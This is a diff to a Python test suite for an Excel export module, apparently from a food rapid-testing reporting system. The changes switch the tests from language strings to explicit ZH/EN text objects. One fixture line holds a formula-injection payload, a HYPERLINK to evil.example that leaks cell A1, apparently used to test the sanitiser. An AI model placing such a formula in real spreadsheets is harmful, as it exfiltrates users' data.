@@ -15,14 +15,13 @@ import report_samples as S
 from hypothesis import given, settings
 from hypothesis import strategies as st
 from openpyxl import load_workbook
-from report_tools import require
+from report_tools import EN, ZH, require
 
 from reports.data import ResultExportRow
 from reports.excel.cells import FORMULA_TRIGGERS, safe_text
 from reports.excel.template import TEMPLATE_HEADERS, import_template
 from reports.excel.monthly_workbook import write_monthly
 from reports.excel.results_export import export_headers, write_results
-from reports.i18n import labels
 
 EVIL = {
     "site": '=HYPERLINK("http://evil.example/?leak="&A1,"点我查看")',
@@ -39,9 +38,9 @@ def one_row(**changes) -> ResultExportRow:
     return dataclasses.replace(next(S.export_rows(1)), **changes)
 
 
-def export(rows, **kwargs):
+def export(rows, text=ZH, **kwargs):
     buffer = io.BytesIO()
-    count = write_results(rows, buffer, **kwargs)
+    count = write_results(rows, buffer, text, **kwargs)
     buffer.seek(0)
     return count, buffer
 
@@ -59,7 +58,7 @@ def test_headers_sheets_and_notes():
     assert wb.sheetnames == ["快检结果", "说明"]
     ws = wb["快检结果"]
     header = [c.value for c in ws[1]]
-    assert header == export_headers()
+    assert header == export_headers(ZH)
     assert header[:4] == ["样品编号", "抽样时间", "抽样人", "被检场所"]
     for needed in ("检测项目代码", "检测依据", "检测原理", "试剂批号", "试剂厂家", "检测仪器", "检测点", "通道",
                    "判定值", "结论", "仪器结论", "不一致", "审核人员", "结果版本", "更正原因", "处置状态"):
@@ -111,7 +110,7 @@ def test_qualitative_reading_is_text_not_zero():
 
 
 def test_english_headers():
-    _, buffer = export([one_row()], lang="en")
+    _, buffer = export([one_row()], text=EN)
     wb = load_workbook(buffer)
     assert wb.sheetnames == ["Rapid test results", "Notes"]
     assert [c.value for c in wb.active[1]][0] == "Sample code"
@@ -119,7 +118,7 @@ def test_english_headers():
 
 def test_export_to_a_path(tmp_path):
     target = tmp_path / "results.xlsx"
-    assert write_results(S.export_rows(10), str(target), exported_at=datetime(2026, 12, 1, 9, 0, tzinfo=S.CST),
+    assert write_results(S.export_rows(10), str(target), ZH, exported_at=datetime(2026, 12, 1, 9, 0, tzinfo=S.CST),
                          period="2026-11-01 ~ 2026-11-30") == 10
     wb = load_workbook(target, read_only=True)
     try:
@@ -154,7 +153,7 @@ def test_fifty_thousand_rows_stream_with_flat_memory(tmp_path):
 
     target = tmp_path / "big.xlsx"
     with open(target, "wb") as fh:
-        assert write_results(rows(), fh) == 50_000
+        assert write_results(rows(), fh, ZH) == 50_000
     growth = samples[50_000] - samples[5_000]
     # A materialised list of 50,000 rows alone would take far more than this.
     assert growth < 25 * 2**20, f"memory grew by {growth / 2**20:.1f} MB while streaming"
@@ -166,11 +165,9 @@ def test_fifty_thousand_rows_stream_with_flat_memory(tmp_path):
 
 def test_monthly_workbook_sheets_and_values():
     report = S.monthly_report()
-    wb = load_workbook(io.BytesIO(write_monthly(report)))
-    L = labels()
-    assert wb.sheetnames == [L[f"xlsx.sheet.{k}"] for k in ("headline", "by_site", "by_category", "by_item",
-                                                            "by_station", "positives", "ratings", "lists",
-                                                            "events", "daily")]
+    wb = load_workbook(io.BytesIO(write_monthly(report, ZH)))
+    assert wb.sheetnames == ["总体情况", "分市场", "分食品类别", "分检测项目", "分检测点", "阳性明细", "五色预警", "红黑榜",
+                             "活动保障", "每日趋势"]
     overview = wb["总体情况"]
     values = {row[0]: row[1:] for row in overview.iter_rows(values_only=True) if row and row[0]}
     assert values["检测批次"][0] == report.current.batches
@@ -185,7 +182,7 @@ def test_monthly_workbook_sheets_and_values():
 
 
 def test_monthly_workbook_empty_month():
-    wb = load_workbook(io.BytesIO(write_monthly(S.empty_monthly_report(), "en")))
+    wb = load_workbook(io.BytesIO(write_monthly(S.empty_monthly_report(), EN)))
     values = {row[0]: row[1:] for row in wb["Overview"].iter_rows(values_only=True) if row and row[0]}
     assert values["Pass rate"][0] is None  # no rate rather than a division by zero
     assert values["Tests"][0] == 0
@@ -195,7 +192,7 @@ def test_monthly_workbook_empty_month():
 
 
 def test_import_template_headers_examples_and_instructions():
-    wb = load_workbook(io.BytesIO(import_template()))
+    wb = load_workbook(io.BytesIO(import_template(ZH)))
     assert wb.sheetnames == ["检测结果", "填写说明", "示例"]
     ws = wb["检测结果"]
     assert ws.max_row == 1  # nothing to import by mistake: the examples have their own sheet
@@ -223,7 +220,7 @@ def test_import_template_headers_examples_and_instructions():
 
 
 def test_import_template_reads_back_in_read_only_mode():
-    wb = load_workbook(io.BytesIO(import_template("en")), read_only=True, data_only=True)
+    wb = load_workbook(io.BytesIO(import_template(EN)), read_only=True, data_only=True)
     try:
         first = next(wb.worksheets[0].iter_rows(values_only=True))
         assert first == TEMPLATE_HEADERS  # the file format does not change with the language
